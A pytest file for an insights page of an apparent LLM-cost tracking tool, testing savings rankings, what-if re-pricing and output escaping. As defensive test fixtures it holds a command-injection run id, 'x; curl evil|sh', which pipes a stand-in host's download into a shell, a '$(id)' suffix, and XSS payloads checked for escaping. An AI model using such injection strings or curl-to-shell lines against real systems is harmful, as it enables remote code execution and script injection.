"""The insights page, its JSON twin and /api/whatif over a real embedded store fed
through the collector: findings ranked by savings, each with the what-if behind its
number, checked against a re-pricing from the published rates; escaping of telemetry."""

from __future__ import annotations

import html as htmllib
import itertools
import re
import shlex
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone

import pytest

from tests.analysis.insights_agents import BATCH, Call, cost, price
from tests.otlp import NOW_NS
from tests.web.ui_agents import HAIKU, IMG, SCRIPT, SONNET, assert_escaped, ingest, ui
from tokentrail.store import Store
from tokentrail.web.formatting import segment, usd
from tokentrail.web.routers import insights as insights_router

REL = 1e-9
NOW = datetime.fromtimestamp(NOW_NS / 1e9, timezone.utc)
RANGE = {"start": (NOW - timedelta(days=7)).isoformat(),
         "end": (NOW + timedelta(days=1)).isoformat()}

# uncached_prefix: a 40k-token prompt re-sent on 6 turns 30 s apart, nothing cached.
SEED = [Call("seed", k, at=30.0 * k, uncached=40_000 + 500 * k, output=200,
             service="prefix", model=SONNET) for k in range(1, 7)]
# batch_candidate: 12 independent single-call runs of a service with a hostile name;
# the costliest run has a hostile id (so it is among the examples).
QUEUE = [Call(IMG if i == 11 else f"q-{i:02d}", 1, at=5.0 * i, uncached=2000 + 10 * i,
              output=60, service=SCRIPT, model=HAIKU) for i in range(12)]
# unread_cache_writes: three 5m writes ten minutes apart that no call reads.
UNREAD = [Call(f"w-{i}", 1, at=600.0 * i, w5=5000, uncached=10, output=20, service="writer")
          for i in range(3)]
# A run id a shell would run as two commands: an uncached_prefix run 20 days back, out of
# RANGE, so the page's copy-paste `tokentrail whatif --run ...` has to quote it.
SHELLISH = "x; curl evil|sh"
SHELLISH_AT = -20 * 86400.0
SHELL = [Call(SHELLISH, k, at=SHELLISH_AT + 30.0 * k, uncached=40_000 + 500 * k, output=200,
              service="prefix", model=SONNET) for k in range(1, 7)]
SHELL_RANGE = {"start": (NOW + timedelta(seconds=SHELLISH_AT - 3600)).isoformat(),
               "end": (NOW + timedelta(seconds=SHELLISH_AT + 3600)).isoformat()}


def seed_alternative() -> float:
    """SEED re-priced with caching: turn 1 writes its prompt (5m), every later turn
    reads the previous prompt and writes what was added (README, uncached_prefix)."""
    alt = price(SONNET, w5=SEED[0].total_in, output=SEED[0].output)
    for prev, c in itertools.pairwise(SEED):
        alt += price(SONNET, read=prev.total_in, w5=c.total_in - prev.total_in, output=c.output)
    return alt


@pytest.fixture(scope="module")
def client(tmp_path_factory) -> Iterator:
    store = Store.open(f"chdb://{tmp_path_factory.mktemp('insights') / 'data'}")
    try:
        ingest(store, SEED + QUEUE + UNREAD + SHELL)
        with ui(store) as c:
            yield c
    finally:
        store.close()


@pytest.fixture(scope="module")
def data(client) -> dict:
    response = client.get("/api/insights", params=RANGE)
    assert response.status_code == 200, response.text
    return response.json()


@pytest.fixture(scope="module")
def page(client) -> str:
    response = client.get("/insights", params=RANGE)
    assert response.status_code == 200, response.text
    return response.text


def finding(data: dict, kind: str) -> dict:
    hits = [f for f in data["findings"] if f["kind"] == kind]
    assert len(hits) == 1, [f["kind"] for f in data["findings"]]
    return hits[0]


def test_findings_ranked_by_savings(data):
    savings = [f["savings_usd"] for f in data["findings"]]
    assert savings == sorted(savings, reverse=True)
    assert {f["kind"] for f in data["findings"]} == {
        "uncached_prefix", "batch_candidate", "unread_cache_writes"}
    # Findings overlap (one run can be uncached_prefix and context_growth, one service's
    # calls batch and routing candidates): the page's headline is the largest one, never
    # their sum.
    assert data["largest_savings_usd"] == pytest.approx(max(savings))
    assert "total_savings_usd" not in data


def test_the_headline_is_the_largest_finding_not_a_sum(page, data):
    savings = [f["savings_usd"] for f in data["findings"]]
    headline = text(re.search(r'<p class="headline">(.*?)</p>', page, re.S).group(1))
    assert usd(max(savings)) in headline and "overlap" in headline
    assert usd(sum(savings)) not in headline


def test_first_and_last_seen_are_utc_with_an_offset(data):
    f = finding(data, "uncached_prefix")
    first, last = (datetime.fromisoformat(f[k]) for k in ("first_seen", "last_seen"))
    assert first.utcoffset() == last.utcoffset() == timedelta(0), (first, last)
    # Stored at millisecond precision: the first and last calls of SEED.
    assert abs(first - (NOW + timedelta(seconds=SEED[0].at))) < timedelta(milliseconds=1)
    assert abs(last - (NOW + timedelta(seconds=SEED[-1].at))) < timedelta(milliseconds=1)


def test_the_whatif_command_is_shell_quoted(client):
    """The copy-paste command line splits, as a shell would, into the same arguments:
    a run id with `;` and `|` stays one argument instead of running `curl evil|sh`."""
    page = client.get("/insights", params=SHELL_RANGE).text
    (body,) = [b for kind, b in articles(page) if kind == "uncached_prefix"]
    line = text(re.search(r'<code class="whatif-command">(.*?)</code>', body, re.S).group(1))
    args = shlex.split(line)
    assert args[:5] == ["tokentrail", "whatif", "cache_prefix", "--run", SHELLISH], line
    assert args[5::2] == ["--start", "--end"] and len(args) == 9, line
    service = insights_router.whatif_command("batch", insights_router.time_range(
        None, None, "7d"), service=SCRIPT + " $(id)")
    assert shlex.split(service)[3:5] == ["--service", SCRIPT + " $(id)"]


def test_uncached_prefix_with_its_whatif(data):
    f = finding(data, "uncached_prefix")
    actual = sum(cost(c) for c in SEED)
    assert (f["scope"], f["service_name"], f["model"], f["run_ids"], f["calls"]) == (
        "run", "prefix", SONNET, ["seed"], 6)
    assert f["cost_usd"] == pytest.approx(actual, rel=REL)
    assert f["savings_usd"] == pytest.approx(actual - seed_alternative(), rel=REL)
    w = f["whatif"]
    assert (w["scenario"], w["run"], w["service"], w["calls"], w["runs"]) == (
        "cache_prefix", "seed", "", 6, 1)
    assert w["cost_usd"] == pytest.approx(actual, rel=REL)
    assert w["whatif_cost_usd"] == pytest.approx(seed_alternative(), rel=REL)
    assert w["savings_usd"] == pytest.approx(f["savings_usd"], rel=REL)
    assert f["whatif_url"].startswith("/api/whatif?scenario=cache_prefix&")


def test_batch_candidate_with_its_whatif(data, client):
    f = finding(data, "batch_candidate")
    actual = sum(cost(c) for c in QUEUE)
    batched = sum(cost(c, factor=BATCH) for c in QUEUE)
    assert (f["scope"], f["service_name"], f["calls"]) == ("service", SCRIPT, 12)
    assert f["savings_usd"] == pytest.approx(actual - batched, rel=REL)
    assert f["run_ids"][0] == IMG  # the costliest first
    w = f["whatif"]
    assert (w["scenario"], w["service"], w["run"], w["calls"], w["runs"]) == (
        "batch", SCRIPT, "", 12, 12)
    assert w["whatif_cost_usd"] == pytest.approx(batched, rel=REL)
    # The link behind the number answers the same totals.
    assert client.get(f["whatif_url"]).json()["savings_usd"] == pytest.approx(w["savings_usd"])


def test_a_kind_without_a_scenario_says_how_it_was_computed(data):
    f = finding(data, "unread_cache_writes")
    assert f["whatif"] is None and f["whatif_url"] is None
    assert "uncached input" in f["basis"]
    written = sum(cost(c) for c in UNREAD)
    as_input = sum(price(SONNET, uncached=c.uncached + c.w5, output=c.output) for c in UNREAD)
    assert f["savings_usd"] == pytest.approx(written - as_input, rel=REL)


def articles(page: str) -> list[tuple[str, str]]:
    return re.findall(r'<article class="insight" data-kind="([^"]+)"[^>]*>(.*?)</article>',
                      page, re.S)


def text(markup: str) -> str:
    return htmllib.unescape(re.sub(r"<[^>]+>", "", markup)).strip()


def test_the_page_shows_each_finding_as_the_json_does(page, data):
    shown = articles(page)
    assert [k for k, _ in shown] == [f["kind"] for f in data["findings"]]
    for (_, body), f in zip(shown, data["findings"], strict=True):
        assert text(re.search(r'<span class="savings">(.*?)</span>', body).group(1)) \
            == f"save {usd(f['savings_usd'])}"
        for css, value in (("scope", f["scope"]), ("calls", str(f["calls"])),
                           ("cost", usd(f["cost_usd"])), ("confidence",
                                                          f["confidence"].replace("_", " "))):
            assert text(re.search(rf'<dd class="{css}[^"]*">(.*?)</dd>', body).group(1)) \
                == value, css
        assert htmllib.escape(f["detail"], quote=False) in body.replace("&#39;", "'")
        links = re.findall(r'<a class="run-link" href="/runs/([^"]*)">', body)
        assert links == [segment(run) for run in f["run_ids"]]
        if f["whatif"]:
            w = f["whatif"]
            assert f'<code class="scenario">{w["scenario"]}</code>' in body
            assert text(re.search(r'class="num whatif-savings">(.*?)<', body).group(1)) \
                == usd(w["savings_usd"])
            assert text(re.search(r'class="num whatif-alt">(.*?)<', body).group(1)) \
                == usd(w["whatif_cost_usd"])
        else:
            assert "How the number was computed" in body


def test_telemetry_is_escaped(page):
    assert_escaped(page)
    batch = dict(articles(page))["batch_candidate"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in batch       # the service
    assert 'href="/runs/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E"' in batch
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in batch  # the run id as text


def test_kind_filter(client):
    only = client.get("/api/insights", params={**RANGE, "kind": "batch_candidate"}).json()
    assert [f["kind"] for f in only["findings"]] == ["batch_candidate"]
    html = client.get("/insights", params={**RANGE, "kind": "unread_cache_writes"}).text
    assert [k for k, _ in articles(html)] == ["unread_cache_writes"]
    response = client.get("/api/insights", params={**RANGE, "kind": "cheap_tricks"})
    assert response.status_code == 422 and "unknown kind" in response.text


def test_whatif_api(client):
    def whatif(**params) -> dict:
        response = client.get("/api/whatif", params={**RANGE, **params})
        assert response.status_code == 200, response.text
        return response.json()

    on_haiku = whatif(scenario="model", run="seed", model=HAIKU)
    assert on_haiku["cost_usd"] == pytest.approx(sum(cost(c) for c in SEED), rel=REL)
    assert on_haiku["whatif_cost_usd"] == pytest.approx(
        sum(cost(c, model=HAIKU) for c in SEED), rel=REL)
    fleet = whatif(scenario="batch")
    everything = SEED + QUEUE + UNREAD
    assert (fleet["calls"], fleet["runs"]) == (len(everything), 1 + 12 + 3)
    assert fleet["whatif_cost_usd"] == pytest.approx(
        sum(cost(c, factor=BATCH) for c in everything), rel=REL)
    assert whatif(scenario="batch", service="nobody")["calls"] == 0
    for params, says in (({"scenario": "cheaper"}, "batch"), ({}, "scenario"),
                         ({"scenario": "batch", "start": "soon"}, "ISO 8601"),
                         ({"scenario": "compaction", "compact_to": "0"}, "greater")):
        response = client.get("/api/whatif", params=params)
        assert response.status_code == 422 and says in response.text, params


def test_an_empty_range_says_so(client):
    html = client.get("/insights", params={"start": "2020-01-01", "end": "2020-01-02"}).text
    assert "No findings between" in html and not articles(html)


def test_openapi_documents_the_insights_twins(client):
    schema = client.get("/api/openapi.json").json()["components"]["schemas"]
    assert {"savings_usd", "whatif", "basis", "run_ids", "detail", "fix"} <= set(
        schema["Finding"]["properties"])
    assert {"scenario", "cost_usd", "whatif_cost_usd", "savings_usd"} <= set(
        schema["WhatIf"]["properties"])


def test_whatifs_past_the_limit_are_links(client, monkeypatch):
    """Only the first WHATIF_LIMIT distinct what-ifs are computed with the page; later
    findings keep their link to /api/whatif."""
    monkeypatch.setattr(insights_router, "WHATIF_LIMIT", 1)
    html = client.get("/insights", params=RANGE).text
    with_links = [(kind, body) for kind, body in articles(html) if "whatif-link" in body]
    assert [kind for kind, _ in with_links] == ["uncached_prefix", "batch_candidate"]
    assert 'class="whatif-table' in with_links[0][1]
    assert 'class="whatif-table' not in with_links[1][1]
    assert "not computed on this page" in with_links[1][1]
